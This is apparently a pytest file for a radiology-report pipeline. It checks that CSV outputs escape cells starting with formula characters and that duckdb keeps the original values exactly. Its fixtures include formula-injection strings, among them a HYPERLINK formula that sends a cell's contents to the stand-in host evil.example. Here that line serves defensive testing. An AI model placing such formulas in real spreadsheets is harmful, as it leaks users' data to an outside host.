"""CSV cells are safe to open in a spreadsheet (no cell starts a formula), and the way back is exact:
results.duckdb holds the original values, and `modic flag`, `review` and `audit` read the escaped CSVs."""

import csv
import datetime as dt
import json
import random

import duckdb
import pandas as pd
import pyarrow as pa
import pytest

from pipeline.csvcells import (
    DANGER,
    escape,
    escape_cell,
    read_csv,
    unescape,
    unescape_frame,
    unescape_sql,
    unescape_table,
)
from pipeline.outputs import cell, write_table

from .test_cli import invoke, write_csv
from .test_review import SYMPTOM_HEADER, page_data

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
REPORTS = [
    (LINK, "=P1", "2024-01-05", "- Modic type 1 changes at L4-L5.\n- No nerve root compression."),
    ("+R2", "-P2", "2024-02-01", "+ Modic type 2 change at L5-S1."),
    ("@SUM(1+1)", "@P3", "2024-03-01", "@SUM(A1:A9) Modic type 1 endplate change at L3-L4."),
    ("-R4", "+P4", "2024-04-01",
     "=1+1 Modic type 2 changes at L4-L5.\n=1+1 Disc bulge compressing the left L5 nerve root."),
    ("'R5", "'P5", "2024-05-01", "'Quoted' Modic type 1 change at L5-S1."),
    ("R6", "P6", "2024-06-01", "\tModic type 2 change at L4-L5."),
]  # fmt: skip
PATIENTS = [r[1] for r in REPORTS]
SYMPTOMS = [(pid, "2024-07-01", "24", "12", "no") for pid in PATIENTS]


def csv_cells(path):
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    return rows[0], rows[1:]


def assert_no_formula(path):
    header, rows = csv_cells(path)
    assert rows, path
    bad = [(path.name, header[j], v) for row in rows for j, v in enumerate(row) if v[:1] in FORMULA_STARTS]
    assert not bad


# -- the rule ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw, written",
    [
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("- bullet", "'- bullet"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'quoted", "''quoted"),
        ("''", "'''"),
        ("'", "''"),
        ("", ""),
        ("R1", "R1"),
        ("L4-L5", "L4-L5"),
        (" =x", " =x"),
        ("1-2", "1-2"),
    ],
)
def test_escape_puts_a_quote_before_a_dangerous_first_character_only(raw, written):
    assert escape(raw) == written
    assert unescape(written) == raw


def test_escape_and_unescape_round_trip_random_strings():
    rng = random.Random(7)
    alphabet = "=+-@\t\r'\"a1 ,\n;é\U0001f600"
    values = ["".join(rng.choice(alphabet) for _ in range(rng.randrange(6))) for _ in range(5000)]
    for v in values:
        e = escape(v)
        assert unescape(e) == v
        assert e[:1] not in set(FORMULA_STARTS)
        assert escape(e) == (e if e[:1] != "'" else "'" + e)  # escaping twice needs undoing twice
    assert DANGER == frozenset("=+-@\t\r'")


def test_only_strings_are_escaped_numbers_stay_numbers():
    assert [cell(v) for v in (-1.5, -3, True, False, None, dt.date(2024, 1, 2), "-1.5", "'x")] == [
        "-1.5", "-3", "true", "false", "", "2024-01-02", "'-1.5", "''x",
    ]  # fmt: skip
    assert [escape_cell(v) for v in (-2, -0.5, None, "-x")] == [-2, -0.5, None, "'-x"]


def test_frame_and_table_helpers_unescape_string_columns_only():
    frame = pd.DataFrame({"id": ["'=a", "b", "''c", ""], "n": [-1, 2, 3, 4], "x": [-0.5, 1.0, None, 2.0]})
    out = unescape_frame(frame.copy())
    assert out["id"].tolist() == ["=a", "b", "'c", ""]
    assert out["n"].tolist() == [-1, 2, 3, 4] and out["x"].isna().tolist() == [False, False, True, False]
    table = pa.table({"id": pa.array(["'=a", None, "b", "''c"]), "n": pa.array([-1, 2, 3, 4])})
    assert unescape_table(table).to_pydict() == {"id": ["=a", None, "b", "'c"], "n": [-1, 2, 3, 4]}


def test_csv_helper_and_sql_expression_give_back_the_exact_values(tmp_path):
    values = ["=1+1", "-x", "'q", "''", "", "plain", "+", "@"]
    path = tmp_path / "t.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(["v", "n"])
        w.writerows([escape(v), -i] for i, v in enumerate(values))
    got = read_csv(path, dtype={"v": str}, keep_default_na=False)
    assert got["v"].tolist() == values and got["n"].tolist() == [-i for i in range(len(values))]
    with duckdb.connect() as con:
        sql = f"SELECT {unescape_sql('v')}, n FROM read_csv(?, header = true, all_varchar = true)"
        assert [r[0] for r in con.execute(sql, [str(path)]).fetchall()] == [v or None for v in values]


def test_write_table_escapes_the_csv_and_keeps_duckdb_exact(tmp_path):
    rows = [{"id": "=x", "d": dt.date(2024, 1, 2), "f": -1.5, "b": True, "t": "-"}, {"id": "'y", "f": None}]
    types = {"id": "VARCHAR", "d": "DATE", "f": "DOUBLE", "b": "BOOLEAN", "t": "VARCHAR"}
    path = write_table(tmp_path, "things", rows, types)
    assert csv_cells(path)[1] == [["'=x", "2024-01-02", "-1.5", "true", "'-"], ["''y", "", "", "", ""]]
    with duckdb.connect(str(tmp_path / "results.duckdb"), read_only=True) as con:
        got = con.execute("select id, d, f, b, t from things").fetchall()
    assert got == [("=x", dt.date(2024, 1, 2), -1.5, True, "-"), ("'y", None, None, None, "")]


# -- end to end ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """`modic run` (extract and flag) on reports and patients whose ids and texts start formulas."""
    tmp = tmp_path_factory.mktemp("csvsafety")
    write_csv(tmp / "reports.csv", REPORTS)
    write_csv(tmp / "symptoms.csv", SYMPTOMS, header=SYMPTOM_HEADER)
    out = tmp / "out"
    result = invoke("run", tmp / "reports.csv", "--symptoms", tmp / "symptoms.csv", "--out", out, "--quiet")
    assert result.exit_code == 0, result.output
    return out


def test_extract_writes_no_cell_that_starts_a_formula(tmp_path):
    write_csv(tmp_path / "reports.csv", REPORTS)
    result = invoke("extract", tmp_path / "reports.csv", "--out", tmp_path / "out", "--quiet")
    assert result.exit_code == 0, result.output
    for table in ("mentions", "findings", "reports"):
        assert_no_formula(tmp_path / "out" / f"{table}.csv")
    header, rows = csv_cells(tmp_path / "out" / "reports.csv")
    assert [r[0] for r in rows] == [escape(r[0]) for r in REPORTS]
    assert [r[1] for r in rows] == [escape(r[1]) for r in REPORTS]
    header, rows = csv_cells(tmp_path / "out" / "mentions.csv")
    sentences = {r[header.index("sentence")] for r in rows}
    assert "'- Modic type 1 changes at L4-L5." in sentences


def test_duckdb_holds_the_exact_ids_and_sentences(folder):
    with duckdb.connect(str(folder / "results.duckdb"), read_only=True) as con:
        reports = con.execute("select report_id, patient_id from reports").fetchall()
        sentences = {r[0] for r in con.execute("select sentence from mentions").fetchall()}
        evidence = {r[0] for r in con.execute("select evidence from findings").fetchall()}
        patients = dict(con.execute("select patient_id, index_report_id from patients").fetchall())
    assert reports == [(r[0], r[1]) for r in REPORTS]
    assert "- Modic type 1 changes at L4-L5." in sentences
    assert "=1+1 Modic type 2 changes at L4-L5." in sentences
    assert any(e.startswith("@SUM(A1:A9)") for e in evidence)
    assert patients == {r[1]: r[0] for r in REPORTS}  # patients joined to their reports through the exact ids


def test_flag_joins_escaped_ids_with_the_symptoms(folder):
    assert_no_formula(folder / "patients.csv")
    patients = read_csv(folder / "patients.csv", dtype=str, keep_default_na=False)
    assert sorted(patients["patient_id"]) == sorted(PATIENTS)
    by_id = patients.set_index("patient_id")
    assert dict(by_id["index_report_id"]) == {r[1]: r[0] for r in REPORTS}
    assert not by_id["reasons"].str.contains("no_symptom_data|no_mri_report").any()
    assert by_id.loc["=P1", "status"] == "candidate"
    assert by_id.loc["=P1", "qualifying_levels"] == "L4-L5:1"


def test_review_page_shows_the_original_ids(folder):
    result = invoke("review", folder)
    assert result.exit_code == 0, result.output
    data, _, _ = page_data(folder / "review.html")
    assert sorted(p["id"] for p in data["patients"]) == sorted(PATIENTS)
    assert sorted(r["id"] for r in data["reports"]) == sorted(r[0] for r in REPORTS)
    p1 = next(p for p in data["patients"] if p["id"] == "=P1")
    assert p1["ir"] == LINK and p1["s"] == "candidate"
    report = next(r for r in data["reports"] if r["id"] == LINK)
    assert report["t"] == REPORTS[0][3] and report["m"]  # its text and its mentions, found by the exact id
    assert not [r["notes"] for r in data["reports"] if r["notes"]]  # every mention's words are at its offsets


def test_review_streams_mentions_of_escaped_ids(folder):
    from pipeline.review import build

    data = build(folder, statuses=("candidate",))  # not every report: the mentions are read filtered by id
    ids = [r["id"] for r in data["reports"]]
    assert sorted(ids) == sorted(r[0] for r in REPORTS if r[0] != "-R4")  # -R4 compresses a root
    assert all(r["m"] for r in data["reports"])
    full = build(folder)
    mentions = {r["id"]: json.dumps(r, sort_keys=True) for r in full["reports"]}
    for r in data["reports"]:
        assert json.dumps(r, sort_keys=True) == mentions[r["id"]]  # the same mentions as the unfiltered read


def test_audit_matches_referrals_by_the_original_ids(folder, tmp_path):
    refs = tmp_path / "referrals.csv"
    with open(refs, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["patient_id", "referral_date", "referred_to", "procedure", "site", "provider"])
        w.writerow(["=P1", "2024-07-10", "Spine Surgery", "", "=Site", "-Dr X"])
        w.writerow(["-P2", "2024-07-10", "Pain Medicine", "", "+Site", "@Dr Y"])
        w.writerow(["=P9", "2024-07-10", "Neurosurgery", "", "", ""])
    out = tmp_path / "audit"
    result = invoke("audit", folder, "--referrals", refs, "--out", out)
    assert result.exit_code == 0, result.output
    for path in sorted(out.glob("*.csv")):
        header, rows = csv_cells(path)
        assert not [v for row in rows for v in row if v[:1] in FORMULA_STARTS], path.name
    unmatched = read_csv(out / "unmatched_referrals.csv", dtype=str, keep_default_na=False)
    assert unmatched["patient_id"].tolist() == ["=P9"]
    with duckdb.connect(str(out / "audit.duckdb"), read_only=True) as con:
        assert con.execute("select patient_id from unmatched_referrals").fetchall() == [("=P9",)]
        sites = {r[0] for r in con.execute("select site from by_site").fetchall()}
    assert {"=Site", "+Site"} <= sites


def test_evaluate_disagreements_are_escaped(tmp_path):
    gold = tmp_path / "gold.jsonl"
    no_findings = {"modic": [], "endplate": [], "exclusions": {}}
    item = {"report_id": "=G1", "report_text": "- Modic type 1 changes at L4-L5.", "gold": no_findings}
    gold.write_text(json.dumps(item) + "\n", encoding="utf-8")
    out = tmp_path / "disagreements.csv"
    result = invoke("evaluate", gold, "--out", out)
    assert result.exit_code == 0, result.output
    header, rows = csv_cells(out)
    assert rows and all(v[:1] not in FORMULA_STARTS for row in rows for v in row)
    back = read_csv(out, dtype=str, keep_default_na=False)
    assert set(back["report_id"]) == {"=G1"}
    assert "- Modic type 1 changes at L4-L5." in set(back["sentence"])
